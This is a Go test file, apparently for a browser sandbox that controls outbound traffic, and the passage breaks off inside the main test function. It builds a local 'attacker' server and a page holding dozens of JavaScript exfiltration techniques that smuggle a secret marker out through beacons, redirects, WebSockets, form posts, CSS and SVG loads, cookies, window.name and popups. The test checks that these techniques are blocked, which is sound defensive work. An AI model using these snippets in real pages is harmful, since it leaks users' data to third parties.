package browser_test

// The red-team bed: techniques beyond exfil_test.go and webrtc_test.go, run
// as an agent drives the sink (goto, click, leaving the page, closing the
// run), in report mode and then strict, in two host forms (the attacker on
// another port of 127.0.0.1; the page on localhost and the attacker on
// 127.0.0.1). The page's own site (rtSite) and the attacker's (rtEvil) are
// this file's own servers; the attacker counts, per technique, what reaches
// it carrying the marker. In report mode every arrival must be recorded,
// once, as strict mode would refuse it; in strict mode nothing may arrive
// and the same refusals must be on record by the time the next action
// returns. Some techniques put the page's data where a later page of the
// run's next site could read it (window.name, a cookie shared across ports,
// a popup left open, the old page's unload handlers): none of it may reach
// the attacker in strict mode. The journal is scanned for the marker in any
// case.

import (
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gatehouse/gatehouse/broker/journal"
	"github.com/gatehouse/gatehouse/browser"
	"github.com/gatehouse/gatehouse/policy"
)

// rtEvil is the attacker: plain http on 127.0.0.1, https (httptest's
// certificate, which the pool's roots trust) and plain http on [::1], and a
// UDP port for WebTransport. It counts by technique (the path segment after
// /t/, without ".html").
type rtEvil struct {
	mu        sync.Mutex
	hits      map[string]int // requests carrying the marker (preflights apart)
	pre       map[string]int // CORS preflights carrying the marker
	all       map[string]int // every request
	datagrams int
	srv, tls  *httptest.Server
	v6        *httptest.Server
	udp       net.PacketConn
	wg        sync.WaitGroup
}

func newRTEvil(t *testing.T) *rtEvil {
	e := &rtEvil{hits: map[string]int{}, pre: map[string]int{}, all: map[string]int{}}
	e.srv = httptest.NewServer(http.HandlerFunc(e.serve))
	e.tls = httptest.NewTLSServer(http.HandlerFunc(e.serve))
	e.v6 = httptest.NewUnstartedServer(http.HandlerFunc(e.serve))
	if ln, err := net.Listen("tcp", "[::1]:0"); err == nil {
		e.v6.Listener.Close()
		e.v6.Listener = ln
		e.v6.Start()
	} else {
		e.v6 = nil
	}
	var err error
	if e.udp, err = net.ListenPacket("udp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	e.wg.Add(1)
	go func() {
		defer e.wg.Done()
		b := make([]byte, 2048)
		for {
			if _, _, err := e.udp.ReadFrom(b); err != nil {
				return
			}
			e.mu.Lock()
			e.datagrams++
			e.mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		e.srv.Close()
		e.tls.Close()
		if e.v6 != nil {
			e.v6.Close()
		}
		e.udp.Close()
		e.wg.Wait()
	})
	return e
}

func (e *rtEvil) reset() {
	e.mu.Lock()
	defer e.mu.Unlock()
	clear(e.hits)
	clear(e.pre)
	clear(e.all)
	e.datagrams = 0
}

func (e *rtEvil) counts(name string) (hits, pre, all, datagrams int) {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.hits[name], e.pre[name], e.all[name], e.datagrams
}

func (e *rtEvil) port() string { u, _ := url.Parse(e.srv.URL); return u.Port() }

// carries reports whether r carries the marker anywhere: host, address,
// headers (Basic credentials decoded), body.
func carries(r *http.Request, body []byte) bool {
	s := r.Method + " " + r.Host + " " + r.URL.String() + " " + string(body)
	for name, vs := range r.Header {
		s += " " + name + ": " + strings.Join(vs, ",")
	}
	if u, p, ok := r.BasicAuth(); ok {
		s += " " + u + ":" + p
	}
	return strings.Contains(strings.ToLower(s), marker)
}

func (e *rtEvil) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	seg := strings.TrimPrefix(r.URL.Path, "/t/")
	if strings.HasPrefix(r.URL.Path, "/plain/") {
		seg = "plain-" + strings.TrimPrefix(r.URL.Path, "/plain/")
	}
	name, _, _ := strings.Cut(seg, "/")
	name = strings.TrimSuffix(name, ".html")
	preflight := r.Method == http.MethodOptions && r.Header.Get("Access-Control-Request-Method") != ""
	if name == "plain-sse" && r.Header.Get("Last-Event-ID") != "" {
		name = "plain-sse-reconnect"
	}
	if os.Getenv("GATEHOUSE_REDTEAM_HEADERS") == name {
		fmt.Fprintf(os.Stderr, "evil %s %s %v\n", r.Method, r.URL, r.Header)
	}
	e.mu.Lock()
	e.all[name]++
	if carries(r, body) {
		if preflight {
			e.pre[name]++
		} else {
			e.hits[name]++
		}
	}
	e.mu.Unlock()
	if preflight {
		if strings.Contains(name, "deny") {
			w.WriteHeader(http.StatusForbidden) // no CORS: the request never follows
			return
		}
		if o := r.Header.Get("Origin"); o != "" {
			w.Header().Set("Access-Control-Allow-Origin", o)
			w.Header().Set("Access-Control-Allow-Credentials", "true")
		}
		w.Header().Set("Access-Control-Allow-Methods", r.Header.Get("Access-Control-Request-Method"))
		w.Header().Set("Access-Control-Allow-Headers", r.Header.Get("Access-Control-Request-Headers"))
		w.Header().Set("Access-Control-Allow-Private-Network", "true")
		w.WriteHeader(http.StatusNoContent)
		return
	}
	if o := r.Header.Get("Origin"); o != "" && !strings.Contains(name, "deny") {
		w.Header().Set("Access-Control-Allow-Origin", o)
		w.Header().Set("Access-Control-Allow-Credentials", "true")
	}
	page := func(s string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, s)
	}
	switch name {
	case "userinfo", "userinfogoto":
		if _, _, ok := r.BasicAuth(); !ok {
			w.Header().Set("WWW-Authenticate", `Basic realm="rt"`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		page("<h1>in</h1>")
	case "landing":
		// The attacker's page the agent is led to: whatever a page of the
		// previous site posts to it, it sends home.
		page(`<h1>landing</h1><script>addEventListener('message', e => fetch('/t/popupmsg', {method: 'POST', body: String(e.data)}));</script>`)
	case "wname":
		page(`<h1>wname</h1><script>if (window.name) fetch('/t/wname', {method: 'POST', body: window.name});</script>`)
	case "cookiejar":
		page(`<h1>cookiejar</h1><script>if (document.cookie) fetch('/t/cookiejar', {method: 'POST', body: document.cookie});
document.cookie = 'rtd=; max-age=0; path=/';</script>`)
	case "pmframe":
		if strings.HasSuffix(r.URL.Path, ".html") {
			page(`<script>addEventListener('message', e => { fetch('/t/pmframe', {method: 'POST', mode: 'no-cors', body: e.data}); new Image().src = '/t/pmframe?d=' + e.data; });</script>`)
			return
		}
		fmt.Fprintln(w, "received")
	case "back":
		// Takes the first page back to the previous site's page (past
		// the about:blank the change of site leaves).
		page(`<h1>back</h1><script>setTimeout(() => history.go(-2), 100);</script>`)
	case "framea", "wsframe":
		// Frames a page of the previous site, which sends here.
		src := "/rt/auto.html"
		if name == "wsframe" {
			src = "/rt/wsauto.html"
		}
		page(`<h1>frame</h1><iframe src="` + html.EscapeString(r.URL.Query().Get("a")+src+"#t="+r.URL.Query().Get("t")+"&b="+url.QueryEscape("http://"+r.Host)) + `"></iframe>`)
	case "wsproto", "wss", "wspath", "wsforeign":
		webSocket(w, r)
	case "plain-lib.js":
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, `document.getElementById('lib').textContent = 'loaded';`)
	case "plain-s.css":
		w.Header().Set("Content-Type", "text/css")
		fmt.Fprintf(w, `@font-face{font-family:rt;src:url(/plain/font.woff2)} #css{font-family:rt;color:rgb(1,2,3)}`)
	case "plain-frame":
		page(`<h1>frame</h1><img src="/plain/inner.png">`)
	case "plain-hop":
		http.Redirect(w, r, "/plain/hopped.png", http.StatusFound)
	case "plain-sse", "plain-sse-reconnect":
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, "id: 42\nretry: 100\ndata: x\n\n")
	default:
		if strings.HasSuffix(name, ".png") {
			w.Header().Set("Content-Type", "image/png")
			_, _ = w.Write(onePixel)
			return
		}
		fmt.Fprintln(w, "received")
	}
}

// onePixel is a 1x1 PNG.
var onePixel = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")

// rtSite is the page's own site.
func rtSite(w http.ResponseWriter, r *http.Request) {
	_, _ = io.Copy(io.Discard, r.Body)
	q := r.URL.Query()
	page := func(s string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, s)
	}
	js := `const q = new URLSearchParams(location.search), B = q.get('b'), S = '` + secret + `';`
	switch r.URL.Path {
	case "/rt.html":
		page(rtPage)
	case "/rt/plain.html":
		page(rtPlainPage)
	case "/rt/landing":
		page("<h1>landing</h1>")
	case "/rt/redir":
		code, _ := strconv.Atoi(q.Get("code"))
		w.Header().Set("Location", q.Get("to"))
		w.WriteHeader(code)
	case "/rt/linkhdr":
		w.Header().Set("Link", "<"+q.Get("to")+">; rel="+q.Get("rel"))
		page("<h1>link</h1>")
	case "/rt/refresh":
		w.Header().Set("Refresh", "0;url="+q.Get("to"))
		page("<h1>refresh</h1>")
	case "/rt/opener.html":
		page(`<script>opener.location = new URLSearchParams(location.search).get('to');</script>`)
	case "/rt/mw.js":
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `import(%q + '/t/moduleworker?d=%s').catch(() => {});`, q.Get("b"), secret)
	case "/rt/leave.html":
		page(`<h1>leave</h1><script>` + js + `const t = q.get('t'), k = q.get('kind') || 'beacon';
if (k === 'fetchlater' && typeof fetchLater === 'function') fetchLater(B + '/t/' + t, {method: 'POST', body: S});
addEventListener('pagehide', () => {
  if (k === 'beacon') navigator.sendBeacon(B + '/t/' + t, S);
  if (k === 'keepalive') fetch(B + '/t/' + t + '?d=' + S, {keepalive: true, mode: 'no-cors'});
});
document.addEventListener('visibilitychange', () => { if (k === 'visibility' && document.visibilityState === 'hidden') navigator.sendBeacon(B + '/t/' + t, S); });
</script>`)
	case "/rt/waiter.html":
		// A popup of the page's site that waits for the first page to be
		// on another origin, then sends there (or posts to it).
		page(`<h1>waiter</h1><script>` + js + `const k = q.get('kind');
const iv = setInterval(() => { try { void opener.location.href; } catch (e) { clearInterval(iv);
  if (k === 'msg') { if (opener) opener.postMessage(S, '*'); } else navigator.sendBeacon(B + '/t/waiter', S); } }, 50);
</script>`)
	case "/rt/auto.html":
		page(`<h1>auto</h1><script>const p = new URLSearchParams(location.search || location.hash.slice(1)), B = p.get('b'), S = '` + secret + `';
addEventListener('pageshow', () => navigator.sendBeacon(B + '/t/' + p.get('t'), S));</script>`)
	case "/rt/wsauto.html":
		page(`<h1>wsauto</h1><script>const p = new URLSearchParams(location.hash.slice(1)), B = p.get('b'), S = '` + secret + `';
new WebSocket(B.replace('http', 'ws') + '/t/' + p.get('t') + '?d=' + S);</script>`)
	case "/rt/csp":
		w.Header().Set("Content-Security-Policy", "img-src 'none'; report-uri "+q.Get("b")+"/t/cspreport")
		page(`<img src="/rt/x?d=` + secret + `">`)
	case "/rt/slow":
		ms, _ := strconv.Atoi(q.Get("ms"))
		time.Sleep(time.Duration(ms) * time.Millisecond)
		page(`<script>` + js + `navigator.sendBeacon(B + '/t/slowframe', S);</script>`)
	case "/rt/meta":
		page(`<meta http-equiv="refresh" content="0;url=` + html.EscapeString(q.Get("to")) + `">`)
	default:
		page("<h1>rt</h1>")
	}
}

// rtPage has one button per technique. b is the attacker's http origin,
// tb its https origin, v6 its [::1] origin, up its UDP port.
var rtPage = `<!doctype html><meta charset="utf-8"><h1>redteam</h1><div id="box" style="width:60px;height:60px"></div>
<script>
const q = new URLSearchParams(location.search);
const B = q.get('b'), TB = q.get('tb'), V6 = q.get('v6'), UP = q.get('up');
const S = '` + secret + `', L = '` + label + `', P = new URL(B).port, HB = new URL(B).host, E = encodeURIComponent;
const add = (tag, attrs) => { const el = document.createElement(tag); Object.assign(el, attrs || {}); document.body.appendChild(el); return el; };
const inp = () => { const i = document.createElement('input'); i.name = 'd'; i.value = S; return i; };
const frame = src => add('iframe', {src});
const svg = inner => { const d = document.createElement('div'); d.innerHTML = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">' + inner + '</svg>'; document.body.appendChild(d); };
const redir = (code, to) => '/rt/redir?code=' + code + '&to=' + E(to);
const img = src => { new Image().src = src; };
const box = document.getElementById('box');
const T = {
  import: () => import(B + '/t/import?d=' + S).catch(() => {}),
  modulepreload: () => add('link', {rel: 'modulepreload', href: B + '/t/modulepreload?d=' + S}),
  moduleworker: () => new Worker('/rt/mw.js?b=' + E(B), {type: 'module'}),
  audioworklet: () => new AudioContext().audioWorklet.addModule(B + '/t/audioworklet?d=' + S).catch(() => {}),
  paintworklet: () => CSS.paintWorklet.addModule(B + '/t/paintworklet?d=' + S).catch(() => {}),
  ping: () => { add('a', {href: '/rt/landing', ping: B + '/t/ping?d=' + S, textContent: 'p'}).click(); },
  download: () => { add('a', {href: B + '/t/download?d=' + S, download: 'x.txt', textContent: 'd'}).click(); },
  beaconblob: () => navigator.sendBeacon(B + '/t/beaconblob', new Blob([S], {type: 'application/json'})),
  beaconform: () => { const f = new FormData(); f.append('d', S); navigator.sendBeacon(B + '/t/beaconform', f); },
  beaconparams: () => navigator.sendBeacon(B + '/t/beaconparams', new URLSearchParams({d: S})),
  keepalive: () => fetch(B + '/t/keepalive', {method: 'POST', mode: 'no-cors', keepalive: true, priority: 'high', body: S}),
  request: () => fetch(new Request(B + '/t/request?d=' + S, {mode: 'no-cors', priority: 'low'})),
  formblank: () => { const f = add('form', {method: 'post', action: B + '/t/formblank', target: '_blank'}); f.append(inp()); f.submit(); },
  formaction: () => { const f = add('form', {method: 'get', action: '/rt/landing'}); f.append(inp()); const b = document.createElement('button'); b.formAction = B + '/t/formaction'; b.formMethod = 'post'; f.append(b); b.click(); },
  formactionget: () => { const f = add('form', {method: 'post', action: '/rt/landing'}); f.append(inp()); const b = document.createElement('button'); b.formAction = B + '/t/formactionget'; b.formMethod = 'get'; f.append(b); b.click(); },
  object: () => add('object', {data: B + '/t/object?d=' + S}),
  embed: () => add('embed', {src: B + '/t/embed?d=' + S}),
  svgimage: () => svg('<image href="' + B + '/t/svgimage?d=' + S + '" width="10" height="10"/>'),
  svguse: () => svg('<use href="' + B + '/t/svguse?d=' + S + '#x"/>'),
  feimage: () => svg('<filter id="f"><feImage href="' + B + '/t/feimage?d=' + S + '"/></filter><rect width="10" height="10" filter="url(#f)"/>'),
  cssimport: () => add('style', {textContent: '@import url("' + B + '/t/cssimport?d=' + S + '");'}),
  imageset: () => { box.style.backgroundImage = 'image-set(url("' + B + '/t/imageset?d=' + S + '") 1x)'; },
  poster: () => add('video', {poster: B + '/t/poster?d=' + S}),
  track: () => { const v = add('video', {crossOrigin: 'anonymous'}); const t = document.createElement('track'); t.default = true; t.kind = 'subtitles'; t.src = B + '/t/track?d=' + S; v.append(t); },
  inputimage: () => add('input', {type: 'image', src: B + '/t/inputimage?d=' + S}),
  srcset: () => add('img', {srcset: B + '/t/srcset?d=' + S + ' 1x'}),
  picture: () => { const p = add('picture'); const s = document.createElement('source'); s.srcset = B + '/t/picture?d=' + S; p.append(s); p.append(document.createElement('img')); },
  icon: () => add('link', {rel: 'icon', href: B + '/t/icon?d=' + S}),
  manifest: () => add('link', {rel: 'manifest', href: B + '/t/manifest?d=' + S}),
  linkprefetch: () => frame('/rt/linkhdr?rel=prefetch&to=' + E(B + '/t/linkprefetch?d=' + S)),
  linkmodule: () => frame('/rt/linkhdr?rel=modulepreload&to=' + E(B + '/t/linkmodule?d=' + S)),
  refresh: () => frame('/rt/refresh?to=' + E(B + '/t/refresh?d=' + S)),
  opener: () => open('/rt/opener.html?to=' + E(B + '/t/opener?d=' + S)),
  noopener: () => open(B + '/t/noopener?d=' + S, '_blank', 'noopener'),
  pushstate: () => { history.pushState(null, '', '/rt.html?' + q + '&d=' + S); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = B + '/t/pushstate'; },
  pmframe: () => { const f = add('iframe', {src: B + '/t/pmframe.html'}); f.onload = () => f.contentWindow.postMessage(S, '*'); },
  r301: () => img(redir(301, B + '/t/r301?d=' + S)),
  r303: () => fetch(redir(303, B + '/t/r303?d=' + S), {method: 'POST', mode: 'no-cors', body: 'x'}),
  r307: () => fetch(redir(307, B + '/t/r307'), {method: 'POST', mode: 'no-cors', body: S}),
  r308: () => navigator.sendBeacon(redir(308, B + '/t/r308'), S),
  rchain: () => img(redir(302, redir(301, B + '/t/rchain?d=' + S))),
  rhttps: () => img(redir(302, TB + '/t/rhttps?d=' + S)),
  rfrag: () => img(redir(302, B + '/t/rfrag?d=' + S + '#frag')),
  rdots: () => img(redir(302, B + '/t/x/../rdots?d=' + S)),
  rcase: () => img(redir(302, 'http://LocalHost:' + P + '/t/rcase?d=' + S)),
  rmeta: () => frame('/rt/meta?to=' + E(redir(302, B + '/t/rmeta?d=' + S))),
  userinfo: () => { location = 'http://' + S.slice(0, 40) + ':pw@' + HB + '/t/userinfo'; },
  idn: () => img('http://secret-\u00fc' + 'k'.repeat(30) + '.localhost:' + P + '/t/idn'),
  longhost: () => img('http://' + ['secret' + 'q'.repeat(54), 'q'.repeat(60), 'q'.repeat(60)].join('.') + '.localhost:' + P + '/t/longhost'),
  ipv6: () => img(V6 + '/t/ipv6?d=' + S),
  decimal: () => img('http://2130706433:' + P + '/t/decimal?d=' + S),
  hexip: () => img('http://0x7f.1:' + P + '/t/hexip?d=' + S),
  webtransport: () => { try { new WebTransport('https://127.0.0.1:' + UP + '/t/webtransport?d=' + S).ready.catch(() => {}); } catch (e) {} },
  wsproto: () => new WebSocket(B.replace('http', 'ws') + '/t/wsproto', ['SeCrEt-' + 'x'.repeat(20)]),
  wss: () => { const w = new WebSocket(TB.replace('https', 'wss') + '/t/wss?d=' + S); w.onopen = () => w.send(S); },
  wspath: () => new WebSocket(B.replace('http', 'ws') + '/t/wspath/' + S),
  fedcm: () => navigator.credentials.get({identity: {providers: [{configURL: TB + '/t/fedcm?d=' + S, clientId: 'c'}]}}).catch(() => {}),
  payment: () => new PaymentRequest([{supportedMethods: TB + '/t/payment?d=' + S}], {total: {label: 'x', amount: {currency: 'USD', value: '1'}}}).canMakePayment().catch(() => {}),
  cspreport: () => frame('/rt/csp?b=' + E(B)),
  aboutblank: () => { const f = add('iframe'); f.contentWindow.fetch(B + '/t/aboutblank', {method: 'POST', mode: 'no-cors', body: S}); },
  dataframe: () => add('iframe', {src: 'data:text/html,' + E('<script>fetch("' + B + '/t/dataframe", {method: "POST", mode: "no-cors", body: "' + S + '"})<\/script>')}),
  srcdoc: () => add('iframe', {srcdoc: '<script>navigator.sendBeacon("' + B + '/t/srcdoc", "' + S + '")<\/script>'}),
  blobworker: () => new Worker(URL.createObjectURL(new Blob(['fetch("' + B + '/t/blobworker?d=' + S + '", {mode: "no-cors"})'], {type: 'text/javascript'}))),
  fetchlater: () => fetchLater(B + '/t/fetchlater', {method: 'POST', body: S, activateAfter: 0}),
  method: () => fetch(B + '/t/method', {method: 'SeCrEtMeThOd' + 'x'.repeat(30), body: 'x'}).catch(() => {}),
  postpath: () => fetch(B + '/t/postpath/' + S, {method: 'POST', mode: 'no-cors', body: 'x'}),
  postname: () => fetch('http://' + L + '.localhost:' + P + '/t/postname', {method: 'POST', mode: 'no-cors', body: 'x'}),
  contentlang: () => fetch(B + '/t/contentlang', {mode: 'no-cors', headers: {'Content-Language': S.slice(0, 60)}}),
  contenttype: () => fetch(B + '/t/contenttype', {mode: 'no-cors', headers: {'Content-Type': 'text/plain; d=' + S.slice(0, 60)}}),
  lasteventidcors: () => fetch(B + '/t/lasteventidcors', {headers: {'Last-Event-ID': S.slice(0, 60)}}).catch(() => {}),
  replacestate: () => history.replaceState(null, '', '/rt/' + S),
  lasteventid: () => fetch(B + '/t/lasteventid', {mode: 'no-cors', headers: {'Last-Event-ID': S.slice(0, 60)}}),
  pfdeny: () => fetch(B + '/t/pfdeny?d=' + S, {method: 'PUT', body: S}).catch(() => {}),
  acrhdeny: () => fetch(B + '/t/acrhdeny', {headers: {['x-' + S.slice(0, 40).toLowerCase()]: '1'}}).catch(() => {}),
  head: () => fetch(B + '/t/head?d=' + S, {method: 'HEAD', mode: 'no-cors'}),
  prerender: () => add('script', {type: 'speculationrules', textContent: JSON.stringify({prerender: [{source: 'list', urls: [B + '/t/prerender?d=' + S]}]})}),
  timer: () => setTimeout(() => navigator.sendBeacon(B + '/t/timer', S), 700),
  slowframe: () => frame('/rt/slow?ms=1300&b=' + E(B)),
  fontoracle: () => { add('style', {textContent: '@font-face{font-family:o;src:url(' + B + '/t/fontoracle/S);unicode-range:U+0053} #box{font-family:o}'}); box.textContent = S.slice(0, 1); },
  shortpath: () => img(B + '/t/shortpath/' + S.slice(0, 100)),
  shortname: () => img('http://secret' + 'z'.repeat(16) + '.localhost:' + P + '/t/shortname'),
  waiter: () => open('/rt/waiter.html?' + q),
  popupmsg: () => open('/rt/waiter.html?kind=msg&' + q),
  wname: () => { window.name = S; },
  cookiejar: () => { document.cookie = 'rtd=' + S.slice(0, 100) + '; path=/'; },
};
for (const k in T) add('button', {id: k, textContent: k, onclick: () => { try { T[k](); } catch (e) {} }});
</script>`

// rtPlainPage reads from the attacker's site the way pages read from CDNs:
// nothing in it carries data, and all of it must work in strict mode.
var rtPlainPage = `<!doctype html><meta charset="utf-8"><h1>plain</h1><p id="lib">no</p><p id="css">css</p><p id="out"></p>
<script>
const q = new URLSearchParams(location.search), B = q.get('b'), TB = q.get('tb');
const add = (tag, attrs) => { const el = document.createElement(tag); Object.assign(el, attrs || {}); document.body.appendChild(el); return el; };
add('img', {src: B + '/plain/img.png'});
add('img', {srcset: B + '/plain/srcset.png 1x'});
add('img', {src: TB + '/plain/tls.png'});
add('img', {src: B + '/plain/hop'});
add('link', {rel: 'stylesheet', href: B + '/plain/s.css'});
add('script', {src: B + '/plain/lib.js'});
add('iframe', {src: B + '/plain/frame.html'});
add('video', {poster: B + '/plain/poster.png'});
document.getElementById('css').style.backgroundImage = 'url(' + B + '/plain/bg.png)';
fetch(B + '/plain/f.json', {mode: 'no-cors'});
fetch(B + '/plain/cors.json').then(r => r.text()).then(t => { document.getElementById('out').textContent = 'cors ' + t.trim(); });
const es = new EventSource(B + '/plain/sse');
</script>`

// rtFate is how a technique's requests must fare.
type rtFate int

const (
	rtRefused       rtFate = iota // decided; report records each arrival, strict refuses them all
	rtStripped                    // a plain read strict mode cuts (Referer, cookies); nothing decided
	rtNothing                     // nothing leaves in any mode
	rtStrictNothing               // data moved into a later site's page: strict lets none of it reach the attacker
	rtAgent                       // the agent's own goto: it arrives, decided as a navigate
	rtAdmitted                    // a plain read that is the channel doc.go admits (which read to make)
	rtPreflight                   // the data rides a CORS preflight the site refuses
)

type rtTechnique struct {
	name       string
	fate       rtFate
	mayNotSend bool // Chromium may not make the request here; report and strict must still agree
	// steps: by default goto rt.html and click the technique's button.
	steps func(t *testing.T, f *rtForm)
	// noBarrier: the steps close the run, so no action follows them.
	noBarrier bool
}

type rtForm struct {
	name string
	page string // the page's origin
	evil *rtEvil
	env  *envT
	run  string
}

func (f *rtForm) url(path string) string {
	q := url.Values{"b": {f.evil.srv.URL}, "tb": {f.evil.tls.URL}, "up": {strconv.Itoa(f.evil.udp.LocalAddr().(*net.UDPAddr).Port)}}
	if f.evil.v6 != nil {
		q.Set("v6", f.evil.v6.URL)
	}
	sep := "?"
	if strings.Contains(path, "?") {
		sep = "&"
	}
	return f.page + path + sep + q.Encode()
}

func (f *rtForm) goTo(t *testing.T, rawURL string) {
	t.Helper()
	do(t, f.env, f.run, browser.ActionGoto, map[string]any{"url": rawURL})
}

func (f *rtForm) clickStep(name string) func(t *testing.T, f *rtForm) {
	return func(t *testing.T, f *rtForm) {
		f.goTo(t, f.url("/rt.html"))
		do(t, f.env, f.run, browser.ActionClick, map[string]any{"selector": "#" + name})
	}
}

// rtTechniques lists the bed. The cookie and the credentials are planted
// last: they would ride later requests to the attacker.
func rtTechniques() []rtTechnique {
	var ts []rtTechnique
	for _, n := range []string{"import", "modulepreload", "moduleworker", "ping", "download", "beaconblob", "beaconform",
		"beaconparams", "keepalive", "request", "formblank", "formaction", "formactionget", "object", "embed", "svgimage",
		"cssimport", "imageset", "poster", "inputimage", "srcset", "picture", "linkprefetch", "refresh", "opener",
		"noopener", "pmframe", "r301", "r303", "r307", "r308", "rchain", "rhttps", "rfrag", "rdots", "rcase", "rmeta",
		"idn", "longhost", "ipv6", "decimal", "hexip", "wsproto", "wss", "wspath", "cspreport", "aboutblank", "dataframe",
		"srcdoc", "blobworker", "method", "postpath", "postname", "contentlang", "contenttype", "head", "lasteventidcors"} {
		ts = append(ts, rtTechnique{name: n})
	}
	for _, n := range []string{"audioworklet", "paintworklet", "svguse", "feimage", "track", "icon", "manifest",
		"linkmodule", "fedcm", "payment", "fetchlater", "lasteventid", "prerender"} {
		ts = append(ts, rtTechnique{name: n, mayNotSend: true})
	}
	ts = append(ts,
		rtTechnique{name: "pushstate", fate: rtStripped},
		// The page puts the secret in its own address: nothing leaves,
		// and the next action's target must not carry it to the journal.
		rtTechnique{name: "replacestate", fate: rtNothing},
		// Sent after the action returned: on record by the next action
		// the agent takes after it (here a second later).
		rtTechnique{name: "timer", steps: func(t *testing.T, f *rtForm) {
			f.clickStep("timer")(t, f)
			time.Sleep(1500 * time.Millisecond)
		}},
		// A frame whose site takes 1.3 s to answer, and whose document
		// then sends: the click's barrier waits for the document.
		rtTechnique{name: "slowframe"},
		rtTechnique{name: "webtransport", fate: rtNothing},
		rtTechnique{name: "fontoracle", fate: rtAdmitted},
		rtTechnique{name: "shortpath", fate: rtAdmitted},
		rtTechnique{name: "shortname", fate: rtAdmitted},
		rtTechnique{name: "pfdeny", fate: rtPreflight},
		rtTechnique{name: "acrhdeny", fate: rtPreflight},
		// The agent goes to the attacker itself, with data in the address:
		// its own choice, decided as a navigate and let through.
		rtTechnique{name: "gotoevil", fate: rtAgent, steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.evil.srv.URL+"/t/gotoevil?d="+secret)
		}},
		// The agent's goto of its own site's open redirect to the attacker.
		rtTechnique{name: "gotoredirect", steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.page+"/rt/redir?code=302&to="+url.QueryEscape(f.evil.srv.URL+"/t/gotoredirect?d="+secret))
		}},
		// Leaving the page for the attacker's site: what the old page sends
		// on its way out is still the old page's.
		rtTechnique{name: "pagehidenew", steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.url("/rt/leave.html?t=pagehidenew"))
			f.goTo(t, f.evil.srv.URL+"/t/landing.html")
		}},
		rtTechnique{name: "pagehidekeep", steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.url("/rt/leave.html?t=pagehidekeep&kind=keepalive"))
			f.goTo(t, f.evil.srv.URL+"/t/landing.html")
		}},
		// A popup of the page's site stays open while the agent goes to
		// the attacker, and sends there (or posts to the attacker's page).
		rtTechnique{name: "waiter", fate: rtStrictNothing, mayNotSend: true, steps: func(t *testing.T, f *rtForm) {
			f.clickStep("waiter")(t, f)
			f.goTo(t, f.evil.srv.URL+"/t/landing.html")
		}},
		rtTechnique{name: "popupmsg", fate: rtStrictNothing, mayNotSend: true, steps: func(t *testing.T, f *rtForm) {
			f.clickStep("popupmsg")(t, f)
			f.goTo(t, f.evil.srv.URL+"/t/landing.html")
		}},
		rtTechnique{name: "wname", fate: rtStrictNothing, mayNotSend: true, steps: func(t *testing.T, f *rtForm) {
			f.clickStep("wname")(t, f)
			f.goTo(t, f.evil.srv.URL+"/t/wname.html")
		}},
		// The attacker's page, now the run's site, brings back a page of
		// the previous site (history), or frames one: what that page
		// sends to the run's site is sent by another site's document.
		rtTechnique{name: "historyback", mayNotSend: true, steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.page+"/rt/auto.html#t=historyback&b="+url.QueryEscape(f.evil.srv.URL))
			f.goTo(t, f.evil.srv.URL+"/t/back.html")
			time.Sleep(500 * time.Millisecond)
		}},
		rtTechnique{name: "evilframea", steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.evil.srv.URL+"/t/framea.html?t=evilframea&a="+url.QueryEscape(f.page))
		}},
		rtTechnique{name: "wsforeign", steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.evil.srv.URL+"/t/wsframe.html?t=wsforeign&a="+url.QueryEscape(f.page))
		}},
		rtTechnique{name: "closevis", noBarrier: true, steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.url("/rt/leave.html?t=closevis&kind=visibility"))
			do(t, f.env, f.run, browser.ActionClose, nil)
		}},
		rtTechnique{name: "fetchlaterclose", mayNotSend: true, noBarrier: true, steps: func(t *testing.T, f *rtForm) {
			f.goTo(t, f.url("/rt/leave.html?t=fetchlaterclose&kind=fetchlater"))
			do(t, f.env, f.run, browser.ActionClose, nil)
		}},
		rtTechnique{name: "cookiejar", fate: rtStrictNothing, mayNotSend: true, steps: func(t *testing.T, f *rtForm) {
			f.clickStep("cookiejar")(t, f)
			f.goTo(t, f.evil.srv.URL+"/t/cookiejar.html")
		}},
		// Last: in report mode Chromium keeps the credentials for the
		// attacker's site and sends them with every later request there.
		// In strict mode the attacker's challenge is cut, so they are
		// never sent (and nothing is decided).
		rtTechnique{name: "userinfo", mayNotSend: true},
		rtTechnique{name: "userinfogoto", fate: rtStrictNothing, mayNotSend: true, steps: func(t *testing.T, f *rtForm) {
			// In report mode the attacker refuses the credentials the
			// page left and the goto fails; in strict mode none are sent.
			try(t, f.env, f.run, browser.ActionGoto, map[string]any{"url": f.evil.srv.URL + "/t/userinfogoto"})
		}},
	)
	return ts
}

// TestRedTeam runs the bed: both host forms, report then strict.
func TestRedTeam(t *testing.T) {
	site := httptest.NewServer(http.HandlerFunc(rtSite))
	defer site.Close()
	evil := newRTEvil(t)
	port := strings.TrimPrefix(site.URL, "http://127.0.0.1")
